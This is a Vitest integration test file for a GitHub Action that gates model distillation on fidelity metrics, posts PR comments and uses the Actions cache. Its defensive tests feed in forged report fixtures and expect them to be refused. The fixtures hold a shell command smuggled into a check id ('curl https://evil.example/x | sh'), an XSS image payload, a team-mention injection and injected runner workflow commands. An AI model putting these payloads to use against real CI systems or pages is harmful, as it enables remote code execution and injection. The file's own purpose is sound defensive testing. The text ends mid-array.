/**
 * The bundled action (dist/index.js) run as a child process, as a runner runs
 * it, against the local GitHub API, Actions cache service and file server.
 * The tests in this file run in order and share the cache service: the first
 * run is cold, later runs find what earlier ones saved. See harness.ts for how
 * the bundle is kept fresh and onnxruntime-node is installed offline.
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { COMMENT_LIMIT } from '../../src/report/comment.js';
import { repoRoot } from '../shared.js';
import { startActionsCacheServer, type ActionsCacheServer } from '../servers/actions-cache.js';
import { startFileServer, type FileServer } from '../servers/file-server.js';
import { startGitHubApiServer, type GitHubApiServer } from '../servers/github-api.js';
import { resultsApi } from '../servers/github-actions-api.js';
import {
  commands,
  commandsRead,
  ORT_VERSION,
  pullRequestEvent,
  pushEvent,
  Runner,
  type RunResult,
} from './harness.js';

const TOKEN = 'ghs_actiontesttoken';
const HOSTILE = path.join(repoRoot, 'test', 'fixtures', 'hostile');
const MARKER = '<!-- metacompress:gates/tiny.yml -->';
const RUN_URL = (id: number) => `https://github.com/octo/distil/actions/runs/${id}`;
const sha256 = (data: Buffer | string) => createHash('sha256').update(data).digest('hex');

let github: GitHubApiServer;
let cacheServer: ActionsCacheServer;
let files: FileServer;
let runner: Runner;

/**
 * The tiny gate. The student is the teacher's own model with its two columns
 * swapped (class-order [1, 0]): it disagrees with the teacher on every input
 * although both are 50% accurate. Teacher confidences are 0.555-0.574, so
 * with epsilon 0.01 every KL(p || reversed p) of about 0.02-0.04 violates MR2.
 */
/**
 * A gate on the 4 tiny rows. 4 inputs cannot decide a 10% ceiling (0 of 4 is Wilson 0–49%), so
 * every relation that does not fail is inconclusive; these tests are about publishing, so
 * `inconclusive` is `pass` here unless given ('the inconclusive checks' below runs warn).
 */
function tinyConfig(
  student: 'swapped' | 'same' = 'swapped',
  dataset = 'dataset.jsonl',
  inconclusive: 'fail' | 'pass' | 'warn' = 'pass',
): string {
  const model = [
    '  model: ../models/sum-count.onnx',
    '  tokenizer:',
    '    vocab: ../data/vocab.json',
    '    merges: ../data/merges.txt',
    '  max-length: 16',
  ];
  return [
    'task: vulnerability-prediction',
    'dataset:',
    `  path: ../data/${dataset}`,
    'teacher:',
    ...model,
    'student:',
    ...model,
    ...(student === 'swapped' ? ['  class-order: [1, 0]'] : []),
    'relations:',
    '  epsilon: 0.01',
    '  n-min: 1',
    'gate:',
    `  inconclusive: ${inconclusive}`,
    'threads: 1',
  ].join('\n');
}

const BASE_INPUTS = {
  config: 'gates/tiny.yml',
  'github-token': TOKEN,
  'onnxruntime-version': ORT_VERSION,
};

const RUNTIME_KEY = `metacompress-v1-onnxruntime-node-${ORT_VERSION}-${process.platform}-${process.arch}-cpu`;

function cacheKeys(): string[] {
  return cacheServer.entries.filter((e) => e.finalized).map((e) => e.key);
}

function expectNoStackTrace(result: RunResult): void {
  expect(result.stdout + result.stderr).not.toMatch(/\n\s+at [\w.<]+ \(|\n\s+at file:/);
}

const MR1_FAILURE = 'MR1 prediction disagreement 100.0% (4/4) exceeds the ceiling 10.0%';
const MR2_FAILURE =
  'MR2 distribution divergence (KL > 0.01 nats) 100.0% (4/4) exceeds the ceiling 15.0%';

beforeAll(async () => {
  [github, cacheServer, files] = await Promise.all([
    startGitHubApiServer({
      token: TOKEN,
      login: 'github-actions[bot]',
      ...resultsApi(() => cacheServer),
    }),
    startActionsCacheServer(),
    startFileServer(),
  ]);
  runner = new Runner({ githubApiUrl: github.url, cacheEnv: (run) => cacheServer.env(run) });
  await runner.installBundle();
  runner.writeTinyFixture();
  runner.write({ 'gates/tiny.yml': tinyConfig() });
}, 600_000);

afterAll(async () => {
  runner?.dispose();
  await Promise.all([github?.close(), cacheServer?.close(), files?.close()]);
});

beforeEach(() => {
  runner.fresh();
  github.requests.length = 0;
  cacheServer.requests.length = 0;
  files.requests.length = 0;
});

describe('a pull request, run after run', () => {
  it('cold: installs the runtime, runs the teacher, comments, then fails with one ::error:: per failing MR', async () => {
    const result = await runner.run({
      inputs: BASE_INPUTS,
      event: pullRequestEvent(7),
      runId: 101,
    });
    expect(result.code).toBe(1);
    expectNoStackTrace(result);

    // No trusted run of main has published a manifest yet: nothing is restored (one warning),
    // ONNX Runtime is installed with npm, and a pull request saves nothing.
    expect(runner.npmCalls()).toBe(1);
    expect(result.report?.teacher.fromCache).toBe(false);
    expect(cacheKeys()).toEqual([]);
    expect(commands(result.stdout, 'warning')).toEqual([
      `::warning::No trusted manifest of the default branch's cache entries (no push, schedule or workflow_dispatch run of main has published metacompress-manifest-gates_tiny.yml): nothing is restored from the Actions cache in this run, every entry is computed again (docs/security.md, "The manifest")`,
    ]);

    // The report, the outputs and the job summary.
    expect(result.report?.gate.failures).toEqual([MR1_FAILURE, MR2_FAILURE]);
    expect(result.outputs).toMatchObject({
      passed: 'false',
      'mr1-rate': '1',
      'mr2-rate': '1',
      'mr3-rate': '',
      'mr4-rate': '0',
      'report-json': path.join(runner.temp, 'metacompress', 'report-gates_tiny.yml.json'),
    });
    expect(result.summary).toMatch(/^### ❌ MetaCompress: Fidelity gate FAILED on MR1, MR2\./);
    expect(result.summary).toContain(`[workflow run and job summary](${RUN_URL(101)})`);
    expect(result.summary).toMatch(/ · \d+\.\d s · MetaCompress /);

    // One sticky comment, with the marker, the chart and the divergent inputs.
    expect(github.comments).toHaveLength(1);
    const comment = github.comments[0]!;
    expect(comment.issueNumber).toBe(7);
    expect(comment.body.startsWith(`${MARKER}\n### ❌ MetaCompress: Fidelity gate FAILED`)).toBe(
      true,
    );
    expect(comment.body).toMatch(/```mermaid\n%%{init: .*}%%\nxychart-beta\n/);
    expect(comment.body).toContain(
      "<details><summary>The 4 of 4 inputs where the student's distribution is furthest from the teacher's, by KL(teacher ‖ student)</summary>",
    );
    expect(comment.body).toContain('```c\nab c\n```');
    expect(comment.body).not.toMatch(/ \d+\.\d s · MetaCompress/);
    expect(result.outputs['comment-url']).toBe(
      `https://github.com/octo/distil/pull/7#issuecomment-${comment.id}`,
    );

    // The verdict comes last: after the comment, one ::error:: per failing MR, then setFailed.
    const errors = commands(result.stdout, 'error');
    expect(errors).toEqual([
      `::error title=MetaCompress::${MR1_FAILURE}`,
      `::error title=MetaCompress::${MR2_FAILURE}`,
      '::error::The fidelity gate failed on 2 checks; see the job summary',
    ]);
    expect(result.stdout.indexOf('Created the MetaCompress comment')).toBeLessThan(
      result.stdout.indexOf('::error'),
    );
    expect(result.stdout.indexOf('Created the MetaCompress comment')).toBeGreaterThan(0);
  });

  it('warm: restores the runtime and the teacher outputs, and updates the same comment', async () => {
    // The default branch's run saves them and publishes the manifest that vouches for them.
    const main = await runner.run({ inputs: BASE_INPUTS, runId: 150 });
    expect(main.code).toBe(1);
    expect(cacheKeys()).toContain(RUNTIME_KEY);
    expect(cacheKeys().some((k) => k.startsWith('metacompress-v1-teacher-outputs-'))).toBe(true);
    runner.fresh();
    github.requests.length = 0;
    cacheServer.requests.length = 0;
    const npmBefore = runner.npmCalls();
    const commentId = github.comments[0]!.id;
    const coldBody = github.comments[0]!.body;
    const result = await runner.run({
      inputs: BASE_INPUTS,
      event: pullRequestEvent(7),
      runId: 102,
    });
    expect(result.code).toBe(1);
    expect(runner.npmCalls()).toBe(npmBefore);
    expect(result.stdout).toContain(`Restored ${RUNTIME_KEY} from the Actions cache`);
    expect(result.stdout).toContain('Teacher outputs restored from the cache (4 rows)');
    expect(result.report?.teacher.fromCache).toBe(true);
    // Same numbers as the cold run: the cached teacher is the teacher.
    expect(result.report?.gate.failures).toEqual([MR1_FAILURE, MR2_FAILURE]);
    // Nothing new saved: both entries were hits.
    expect(cacheServer.kinds()).not.toContain('CreateCacheEntry');

    expect(github.comments).toHaveLength(1);
    expect(github.comments[0]!.id).toBe(commentId);
    // The baseline entries listed first (none: no push has saved one yet), then main's
    // manifest found and checked. Then the comment,
    // updated for the link to this run only: where the teacher's outputs came from is the
    // job summary's to say, so the same results give the same comment otherwise.
    expect(github.requests.map((r) => r.kind)).toEqual([
      'listCaches',
      'listArtifacts',
      'getWorkflowRun',
      'compareCommits',
      'downloadArtifact',
      'viewer',
      'listComments',
      'updateComment',
    ]);
    expect(github.comments[0]!.body).toBe(coldBody.replaceAll(RUN_URL(101), RUN_URL(102)));
    expect(github.comments[0]!.body).not.toContain('from the cache');
    expect(result.summary).toContain(
      // What main's manifest vouches for needs no live teacher (docs/security.md, defence 3).
      "The teacher outputs came from the cache (same teacher model, encoding, dataset, runtime and code): vouched for by the manifest of the default branch's run 150, so not spot-checked; the teacher model was not run for them.",
    );
    expect(result.outputs['comment-url']).toBe(
      `https://github.com/octo/distil/pull/7#issuecomment-${commentId}`,
    );
  });

  it('does not re-post an unchanged body', async () => {
    const before = github.comments[0]!.updatedAt;
    const result = await runner.run({
      inputs: BASE_INPUTS,
      event: pullRequestEvent(7),
      runId: 102,
    });
    expect(result.code).toBe(1);
    expect(github.requests.map((r) => r.kind)).toEqual([
      'listCaches',
      'listArtifacts',
      'getWorkflowRun',
      'compareCommits',
      'downloadArtifact',
      'viewer',
      'listComments',
    ]);
    expect(github.comments[0]!.updatedAt).toBe(before);
    expect(result.stdout).toContain('Left unchanged the MetaCompress comment on pull request #7');
  });
});

describe('publishing faults', () => {
  it('turns a 403 on comment creation into a warning; the step result follows the gate', async () => {
    runner.write({ 'gates/pass.yml': tinyConfig('same') });
    github.faults.create = { status: 403, message: 'Resource not accessible by integration' };
    try {
      const result = await runner.run({
        inputs: { ...BASE_INPUTS, config: 'gates/pass.yml' },
        event: pullRequestEvent(8),
      });
      expect(result.code).toBe(0);
      expect(result.outputs).toMatchObject({ passed: 'true', 'comment-url': '' });
      expect(commands(result.stdout, 'error')).toEqual([]);
      // No trusted run has published this gate's manifest: nothing restored, with one warning;
      // and the student of gates/pass.yml is the teacher itself, which the run says.
      const warnings = commands(result.stdout, 'warning');
      expect(warnings).toHaveLength(3);
      expect(warnings[0]).toMatch(/^::warning::No trusted manifest of the default branch's cache/);
      expect(warnings[1]).toMatch(/^::warning::the student is the teacher: the same model file/);
      expect(warnings[2]).toMatch(
        /^::warning::could not create a comment on octo\/distil#8: Resource not accessible by integration \(HTTP 403\); give the job "permissions: pull-requests: write"/,
      );
      expect(result.summary).toMatch(/^### ✅ MetaCompress: Fidelity gate passed\./);
    } finally {
      delete github.faults.create;
    }
  });

  it('fails with one line naming GITHUB_OUTPUT when the disk is full, after writing the report', async () => {
    runner.write({ 'gates/pass.yml': tinyConfig('same') });
    const result = await runner.run({
      inputs: { ...BASE_INPUTS, config: 'gates/pass.yml' },
      event: pullRequestEvent(8),
      env: { GITHUB_OUTPUT: '/dev/full' },
    });
    expect(result.code).toBe(1);
    expect(commands(result.stdout, 'error')).toEqual([
      '::error::cannot write the step outputs (GITHUB_OUTPUT) to /dev/full (ENOSPC: no space left on device, write)',
    ]);
    expect(result.stdout).toMatch(/Report written to .*report-gates_pass\.yml\.json/);
    expect(result.summary).toMatch(/^### ✅ MetaCompress: Fidelity gate passed\./);
  });

  it('cuts a body over 65,536 characters with a pointer to the job summary', async () => {
    // Four inputs with 30,000-character ids: the divergent-input list alone is over the limit.
    const rows = readFileSync(path.join(runner.workspace, 'data', 'dataset.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((line, i) => {
        const row = JSON.parse(line) as Record<string, unknown>;
        return JSON.stringify({ ...row, idx: `${i}-${'x'.repeat(30_000)}` });
      });
    runner.write({
      'data/long-ids.jsonl': `${rows.join('\n')}\n`,
      'gates/long.yml': tinyConfig('swapped', 'long-ids.jsonl'),
    });
    const result = await runner.run({
      inputs: { ...BASE_INPUTS, config: 'gates/long.yml' },
      event: pullRequestEvent(9),
      runId: 109,
    });
    expect(result.code).toBe(1);
    expect(result.summary.length).toBeGreaterThan(120_000);
    const comment = github.comments.find((c) => c.issueNumber === 9)!;
    expect(comment.body.length).toBeLessThanOrEqual(COMMENT_LIMIT);
    expect(comment.body.length).toBeGreaterThan(COMMENT_LIMIT - 2_500);
    expect(comment.body.startsWith('<!-- metacompress:gates/long.yml -->\n### ❌')).toBe(true);
    expect(
      comment.body.endsWith(
        `\n\n_This comment was cut to fit GitHub's 65,536-character limit; the full report is in the [job summary](${RUN_URL(109)})._`,
      ),
    ).toBe(true);
    // The status line and the table come first, so they survive the cut.
    expect(comment.body).toContain('| MR1 | disagreement ');
  });
});

describe('the inconclusive checks (gate.inconclusive)', () => {
  // The same model twice on 4 rows: no violation, but 0 of 4 is Wilson 0–49.0%, which holds every
  // ceiling; inputs to decide at a rate of 0: z²(1 − c)/c, 35 for 10%, 22 for 15%. MR4's one bin
  // holds the 4 rows: the same accuracy in both, but with 4 inputs its interval reaches past ±δ4.
  const REASONS = [
    'MR1 prediction disagreement 0.0% (0/4) is at or below the ceiling 10.0%, but its 95% CI 0.0–49.0% ' +
      'contains the ceiling: inconclusive; about 35 inputs at this rate would decide it (4 now)',
    'MR2 distribution divergence (KL > 0.01 nats) 0.0% (0/4) is at or below the ceiling 15.0%, but its ' +
      '95% CI 0.0–49.0% contains the ceiling: inconclusive; about 22 inputs at this rate would decide it (4 now)',
    'MR4 calibration-bin disagreement (δ4 = 0.1) 0.0% (0/1 bins apart) is at or below the ceiling ' +
      '25.0%, but 1 of 1 counted bin is undecided ((0.50, 0.60]: the 95% interval of the accuracy ' +
      'difference holds values both within and beyond ±δ4); counted as apart it would put the rate ' +
      'at 100.0%: inconclusive; more labelled inputs in that bin would narrow its interval and decide it',
  ];

  it('warn: a warning annotation per check, the step passes, the output and the headline name them', async () => {
    runner.write({ 'gates/warn.yml': tinyConfig('same', 'dataset.jsonl', 'warn') });
    const result = await runner.run({
      inputs: { ...BASE_INPUTS, config: 'gates/warn.yml' },
      event: pullRequestEvent(8),
    });
    expect(result.code).toBe(0);
    expect(result.outputs).toMatchObject({ passed: 'true', inconclusive: 'MR1,MR2,MR4' });
    expect(commands(result.stdout, 'error')).toEqual([]);
    expect(
      commands(result.stdout, 'warning').filter((w) =>
        w.startsWith('::warning title=MetaCompress::'),
      ),
    ).toEqual(REASONS.map((r) => `::warning title=MetaCompress::${r}`));
    expect(result.summary).toMatch(
      /^### ⚠️ MetaCompress: Fidelity gate passed\. Inconclusive: MR1, MR2, MR4 \(the data cannot decide; gate\.inconclusive: warn\)\./,
    );
    // The summary writes the reasons as untrusted text: a bracket is escaped there (`0.60\\]`).
    for (const reason of REASONS) {
      expect(result.summary).toContain(`- ${reason.replaceAll(']', '\\]')}`);
    }
  });

  it('fail: the same checks fail the step, one error each', async () => {
    runner.write({ 'gates/strict.yml': tinyConfig('same', 'dataset.jsonl', 'fail') });
    const result = await runner.run({
      inputs: { ...BASE_INPUTS, config: 'gates/strict.yml' },
      event: pullRequestEvent(8),
    });
    expect(result.code).toBe(1);
    expect(result.outputs).toMatchObject({ passed: 'false', inconclusive: 'MR1,MR2,MR4' });
    expect(commands(result.stdout, 'error')).toEqual([
      ...REASONS.map((r) => `::error title=MetaCompress::${r}`),
      '::error::The fidelity gate failed on 3 checks; see the job summary',
    ]);
    expect(result.summary).toMatch(
      /^### ❌ MetaCompress: Fidelity gate FAILED\. Inconclusive, failed by gate\.inconclusive: fail: MR1, MR2, MR4\./,
    );
  });
});

describe('artifacts', () => {
  it('retries a download that fails twice, verifies its sha256, and caches it for the next run', async () => {
    const model = readFileSync(path.join(runner.workspace, 'models', 'sum-count.onnx'));
    const url = files.addFile('/models/teacher.onnx', model);
    files.script('/models/teacher.onnx', [503, 'drop']);
    runner.write({
      'data/student.jsonl': '[0.9, 0.1]\n[0.4, 0.6]\n[0.45, 0.55]\n[0.2, 0.8]\n',
    });
    // No config file: everything from inputs.
    const inputs = {
      'github-token': TOKEN,
      'onnxruntime-version': ORT_VERSION,
      task: 'vulnerability-prediction',
      dataset: 'data/dataset.jsonl',
      'teacher-model': url,
      'teacher-model-sha256': sha256(model),
      'teacher-tokenizer': 'data/vocab.json\ndata/merges.txt',
      'student-outputs': 'data/student.jsonl',
      thresholds: 'gate.ceilings.mr1: off\ngate.ceilings.mr2: 0.6',
      'allow-http': 'true',
    };
    const first = await runner.run({ inputs });
    expect(files.hits('/models/teacher.onnx')).toHaveLength(3);
    expect(first.stdout).toMatch(
      /attempt 1 of 4 failed: download of http:\/\/127\.0\.0\.1:\d+\/models\/teacher\.onnx failed: HTTP 503/,
    );
    expect(first.stdout).toMatch(
      /attempt 2 of 4 failed: download of http:\/\/127\.0\.0\.1:\d+\/models\/teacher\.onnx broke after \d+ bytes/,
    );
    expect(first.code).toBe(0);
    expect(first.report?.teacher.sha256).toBe(sha256(model));
    expect(first.report?.relations.mr1).toMatchObject({ violations: 1, n: 4 });
    expect(first.outputs).toMatchObject({ passed: 'true', 'comment-url': '' });
    expect(cacheKeys().some((k) => k.startsWith(`metacompress-v1-artifact-`))).toBe(true);

    // A fresh runner restores the model from the cache: no download.
    runner.fresh();
    files.requests.length = 0;
    const second = await runner.run({ inputs });
    expect(second.code).toBe(0);
    expect(files.hits('/models/teacher.onnx')).toHaveLength(0);
    expect(second.stdout).toContain('from the cache (sha256 verified)');
  });

  it('fails on a wrong sha256 with one line naming both hashes, and posts nothing', async () => {
    const actual = sha256(readFileSync(path.join(runner.workspace, 'models', 'sum-count.onnx')));
    const wrong = 'ab'.repeat(32);
    const result = await runner.run({
      inputs: { ...BASE_INPUTS, 'teacher-model-sha256': wrong },
      event: pullRequestEvent(10),
    });
    expect(result.code).toBe(1);
    expect(commands(result.stdout, 'error')).toEqual([
      `::error::teacher.model: sha256 mismatch for ../models/sum-count.onnx: expected ${wrong}, got ${actual}`,
    ]);
    expectNoStackTrace(result);
    expect(result.outputs).toEqual({});
    expect(github.requests).toEqual([]);
  });
});

describe('the Actions cache service down', () => {
  it('still runs the gate (installing the runtime, running the teacher), with warnings', async () => {
    const npmBefore = runner.npmCalls();
    await cacheServer.setMode('refused');
    let result: RunResult;
    try {
      // A default branch run: it believes its own scope, so it asks the service (a pull request
      // would stop earlier, at the manifest it cannot download from the same service).
      result = await runner.run({ inputs: BASE_INPUTS });
    } finally {
      await cacheServer.setMode('up');
    }
    expect(result.code).toBe(1);
    expect(result.report?.gate.failures).toEqual([MR1_FAILURE, MR2_FAILURE]);
    expect(result.report?.teacher.fromCache).toBe(false);
    expect(runner.npmCalls()).toBe(npmBefore + 1);
    const warnings = commands(result.stdout, 'warning');
    expect(warnings.length).toBeGreaterThan(0);
    expect(warnings.every((w) => w.startsWith('::warning::Failed to restore:'))).toBe(true);
    expect(warnings.join('\n')).toContain('ECONNREFUSED');
    // Nothing restored or saved: no manifest, and main's last one stays the newest.
    expect(result.stdout).toContain('No cache entry was restored or saved; no manifest published');
    // The verdict still comes last.
    expect(commands(result.stdout, 'error')).toHaveLength(3);
  });
});

describe('the baseline', () => {
  it('is saved on a push to the default branch (even when the gate fails) and gives a pull request its deltas', async () => {
    const baseSha = 'c0ffee'.padEnd(40, '1');
    const push = await runner.run({
      inputs: BASE_INPUTS,
      event: pushEvent('main'),
      runId: 201,
      env: { GITHUB_SHA: baseSha },
    });
    expect(push.report?.commit).toBe(baseSha);
    expect(push.code).toBe(1);
    expect(cacheKeys()).toContain('metacompress-v1-baseline-gates/tiny.yml-main-201-1');
    expect(github.requests).toEqual([]);
    // The run the pull request will look the entry's provenance up as.
    github.addRun('octo', 'distil', 201, { event: 'push', headBranch: 'main', headSha: baseSha });

    // A push elsewhere saves nothing.
    const feature = await runner.run({
      inputs: BASE_INPUTS,
      event: pushEvent('feature'),
      runId: 202,
    });
    expect(feature.code).toBe(1);
    expect(cacheKeys().filter((k) => k.includes('baseline'))).toHaveLength(1);

    // The pull request fixes the student: the same config file now has the teacher's own columns.
    runner.write({ 'gates/tiny.yml': tinyConfig('same') });
    try {
      runner.fresh();
      const pr = await runner.run({
        inputs: { ...BASE_INPUTS, thresholds: 'gate.max-degradation: 0.05' },
        event: pullRequestEvent(11),
        runId: 203,
      });
      expect(pr.code).toBe(0);
      expect(pr.stdout).toContain(
        `Baseline report restored from the cache (metacompress-v1-baseline-gates/tiny.yml-main-201-1, made by run 201 at ${baseSha})`,
      );
      expect(pr.report?.baseline?.rates).toEqual({ MR1: 1, MR2: 1, MR3: null, MR4: 0 });
      const body = github.comments.find((c) => c.issueNumber === 11)!.body;
      expect(body).toMatch(/\| Ceiling \| +Base \| +Δ pts \| Status/);
      expect(pr.report?.baseline?.commit).toBe(baseSha);
      expect(body).toMatch(
        /Base: the base branch's report \(commit `c0ffee111111`, made \d{4}-\d\d-\d\d \d\d:\d\d UTC\)\./,
      );
      expect(body).toMatch(
        /\| MR1 \| disagreement +\| +0\.0% \(0\/4\) \|.*\| +100\.0% \| +−100\.0 \|/,
      );
    } finally {
      runner.write({ 'gates/tiny.yml': tinyConfig() });
    }
  });
});

describe('the fork-safe recipe (workflow_run publishes a report made by the pull_request run)', () => {
  function workflowRunEvent(headSha: string) {
    return {
      name: 'workflow_run',
      ref: 'refs/heads/main',
      payload: {
        action: 'completed',
        workflow_run: { id: 77, event: 'pull_request', head_sha: headSha, pull_requests: [] },
        repository: { name: 'distil', owner: { login: 'octo' }, default_branch: 'main' },
      },
    };
  }

  it('comments on the pull request whose head the report was made for, and on no other', async () => {
    // The pull_request run: no write token (a fork), so no comment; it leaves the report.
    const made = await runner.run({
      inputs: { ...BASE_INPUTS, comment: 'false' },
      event: pullRequestEvent(13),
    });
    expect(made.code).toBe(1);
    // Only the baseline (the push above saved one) vouched for by its run's manifest, and the
    // newest manifest: no comment.
    expect(github.requests.map((r) => r.kind)).toEqual([
      'listCaches',
      'listRunArtifacts',
      'getWorkflowRun',
      'compareCommits',
      'downloadArtifact',
      'listArtifacts',
      'getWorkflowRun',
      'compareCommits',
      'downloadArtifact',
    ]);
    github.requests.length = 0;
    runner.write({ 'downloaded/report.json': readFileSync(made.outputs['report-json']!) });

    const head = 'c'.repeat(40);
    github.addPullRequest('octo', 'distil', 13, head);
    runner.fresh();
    const published = await runner.run({
      inputs: {
        config: 'gates/tiny.yml',
        'github-token': TOKEN,
        report: 'downloaded/report.json',
        'pull-request': '13',
        'fail-on-violation': 'false',
      },
      event: workflowRunEvent(head),
      runId: 301,
    });
    expect(published.code).toBe(0);
    expect(published.stdout).toContain('the gate is not run here');
    expect(github.requests.map((r) => r.kind)).toEqual([
      'getPullRequest',
      'viewer',
      'listComments',
      'createComment',
      'listComments',
    ]);
    const comment = github.comments.find((c) => c.issueNumber === 13)!;
    expect(comment.body.startsWith('<!-- metacompress:metacompress -->\n### ❌ MetaCompress')).toBe(
      true,
    );
    expect(comment.body).toContain(
      "<sub>verdict decided here, with this config's ceilings, from the counts of a report another job made; those counts are that job's claim, not checked here · config `gates/tiny.yml` · " +
        `[workflow run and job summary](${RUN_URL(301)})</sub>`,
    );
    expect(published.outputs).toMatchObject({ passed: 'false', 'mr1-rate': '1' });
    expect(published.summary).toMatch(/^### ❌ MetaCompress: Fidelity gate FAILED on MR1, MR2\./);

    // A report whose commit is not the pull request's head (a stale run, or a forged number).
    github.requests.length = 0;
    const stale = await runner.run({
      inputs: {
        config: 'gates/tiny.yml',
        'github-token': TOKEN,
        report: 'downloaded/report.json',
        'pull-request': '13',
        'fail-on-violation': 'false',
      },
      event: workflowRunEvent('d'.repeat(40)),
    });
    expect(stale.code).toBe(0);
    expect(github.requests.map((r) => r.kind)).toEqual(['getPullRequest']);
    expect(commands(stale.stdout, 'warning')).toEqual([
      `::warning::Not commenting on pull request #13: its head is ${head}, but the report comes from a run of ${'d'.repeat(40)}`,
      '::warning::The fidelity gate failed (2 checks), but fail-on-violation is false',
    ]);
  });
});

describe('a forged report (test/fixtures/hostile, make_forged_reports.py) in the workflow_run recipe', () => {
  const head = 'e'.repeat(40);
  const event = {
    name: 'workflow_run',
    ref: 'refs/heads/main',
    payload: {
      action: 'completed',
      workflow_run: { id: 78, event: 'pull_request', head_sha: head, pull_requests: [] },
      repository: { name: 'distil', owner: { login: 'octo' }, default_branch: 'main' },
    },
  };
  const publish = (report: string, inputs: Record<string, string> = {}) => {
    runner.write({
      'downloaded/forged.json': readFileSync(path.join(HOSTILE, report)),
    });
    return runner.run({
      inputs: {
        'github-token': TOKEN,
        report: 'downloaded/forged.json',
        'pull-request': '21',
        'fail-on-violation': 'false',
        ...inputs,
      },
      event,
    });
  };

  it('"passed" with MR1 at 8 of 8: decided again with the config here, it fails', async () => {
    github.addPullRequest('octo', 'distil', 21, head);
    const result = await publish('forged-pass.json', { config: 'gates/tiny.yml' });
    expect(result.code).toBe(0);
    expect(result.outputs).toMatchObject({ passed: 'false', 'mr1-rate': '1' });
    const body = github.comments.find((c) => c.issueNumber === 21)!.body;
    expect(body).toMatch(
      /^<!-- metacompress:metacompress -->\n### ❌ MetaCompress: Fidelity gate FAILED on MR1, MR2, MR3\. Inconclusive: MR4\./,
    );
    expect(body).toMatch(
      /\| MR1 \| disagreement +\| +100\.0% \(8\/8\) \| +67\.6–100\.0% \| +10\.0% \| ❌ FAIL +\|/,
    );
    expect(commands(result.stdout, 'warning')).toContain(
      '::warning::The fidelity gate failed (3 checks), but fail-on-violation is false',
    );
  });

  it('without a config to decide it again: "not verified", and the step fails', async () => {
    github.addPullRequest('octo', 'distil', 21, head);
    const result = await publish('forged-pass.json');
    expect(result.code).toBe(1);
    expect(result.outputs).toMatchObject({ passed: 'false' });
    const body = github.comments.find((c) => c.issueNumber === 21)!.body;
    expect(body).toMatch(
      /^<!-- metacompress:metacompress -->\n### ❌ MetaCompress: not verified\n/,
    );
    expect(body).not.toContain('✅ MetaCompress');
    expect(commands(result.stdout, 'error')).toEqual([
      "::error::The report downloaded/forged.json was made by another job and is not verified: give config: (this repository's metacompress.yml, from the base branch) to decide its verdict again here; see the workflow_run recipe in docs/action.md",
    ]);
  });

  it('a report without the robustness section the config here asks for: refused with one line, no output, no comment', async () => {
    github.addPullRequest('octo', 'distil', 24, head);
    runner.write({
      'gates/robust.yml': [
        tinyConfig(),
        'transforms:',
        '  language: c',
        '  kinds: [dead-code]',
        '  attack:',
        '    methods: [mhm]',
      ].join('\n'),
    });
    const result = await publish('forged-pass.json', {
      config: 'gates/robust.yml',
      'pull-request': '24',
    });
    expect(result.code).toBe(1);
    expect(result.outputs).toEqual({});
    expect(github.comments.filter((c) => c.issueNumber === 24)).toEqual([]);
    expect(commands(result.stdout, 'error')).toEqual([
      `::error::report ${path.join(runner.workspace, 'downloaded', 'forged.json')}: the report has no robustness section, but the config here asks for transformation kind dead-code and attack method mhm (transforms): a report is decided again only on everything its config asks for`,
    ]);
    expectNoStackTrace(result);
  });

  it('a check id holding a shell command and a newline: refused with one line, no output, no comment', async () => {
    github.addPullRequest('octo', 'distil', 22, head);
    const result = await publish('forged-check-id.json', {
      config: 'gates/tiny.yml',
      'pull-request': '22',
    });
    expect(result.code).toBe(1);
    expect(result.outputs).toEqual({});
    expect(github.comments.filter((c) => c.issueNumber === 22)).toEqual([]);
    const errors = commands(result.stdout, 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatch(
      /^::error::report .*forged\.json: not a complete report of version 2: gate\.checks: "MR9\\"; curl https:\/\/evil\.example\/x \| sh; echo \\"\\nMR1" is not a check id/,
    );
    expectNoStackTrace(result);
  });

  it.each([
    [
      'forged-number-html.json',
      'thresholds.relations.epsilon is "<img src=x onerror=alert(1)>", not a number',
    ],
    ['forged-number-mention.json', 'relations.mr2.klMax is "@org/team", not a number or null'],
  ])(
    '%s, text where the comment prints a number: refused naming the field, no comment',
    async (report, problem) => {
      github.addPullRequest('octo', 'distil', 23, head);
      const result = await publish(report, { config: 'gates/tiny.yml', 'pull-request': '23' });
      expect(result.code).toBe(1);
      expect(result.outputs).toEqual({});
      expect(github.comments.filter((c) => c.issueNumber === 23)).toEqual([]);
      expect(commands(result.stdout, 'error')).toEqual([
        `::error::report ${path.join(runner.workspace, 'downloaded', 'forged.json')}: not a complete report of version 2: ${problem}`,
      ]);
      expectNoStackTrace(result);
    },
  );
});

describe('the report in the log, where there is no job summary (older GitHub Enterprise, local runners)', () => {
  it('the hostile data set’s workflow commands are quoted: the runner reads none of them', async () => {
    for (const name of ['metacompress.yml', 'dataset.jsonl', 'teacher.jsonl', 'student.jsonl']) {
      runner.write({ [`hostile/${name}`]: readFileSync(path.join(HOSTILE, name)) });
    }
    const result = await runner.run({
      inputs: { config: 'hostile/metacompress.yml', comment: 'false' },
      env: { GITHUB_STEP_SUMMARY: '' },
    });
    expect(result.code).toBe(1);
    // The report is in the log, with the data set's code and its commands in it…
    for (const line of [
      '::add-mask::MR1',
      '::error title=Security::forged annotation',
      '##[error]old-style command',
      '  ::stop-commands::deadbeef',
    ]) {
      expect(result.stdout.split('\n')).toContain(line);
    }
    // …and the runner reads only the action's own commands: one stop and resume per quoted text, the failures.
    const read = commandsRead(result.stdout);
    expect(read.filter((c) => !/^(stop-commands|error|warning|debug):/.test(c))).toEqual([]);
    // The one warning is the action's own: MR4's bins are undecided on 8 inputs.
    expect(read.filter((c) => c.startsWith('warning:'))).toEqual([
      expect.stringMatching(
        /^warning: ::warning title=MetaCompress::MR4 calibration-bin disagreement/,
      ),
    ]);
    expect(read.filter((c) => c.startsWith('stop-commands:')).length).toBeGreaterThan(0);
    // MR1, MR2 and MR3 fail (MR4's bins are undecided: a warning), and the step's failure line.
    expect(read.filter((c) => c.startsWith('error:'))).toHaveLength(4);
    expect(read.join('\n')).not.toMatch(/add-mask|Security|deadbeef|old-style/);
  });
});

describe('bad input', () => {
  const cases: [string, Record<string, string>, RegExp][] = [
    [
      'an unknown execution provider',
      { 'execution-provider': 'tpu' },
      /^::error::execution-provider: got "tpu"; allowed: cpu, cuda$/,
    ],
    [
      'a threshold that does not exist',
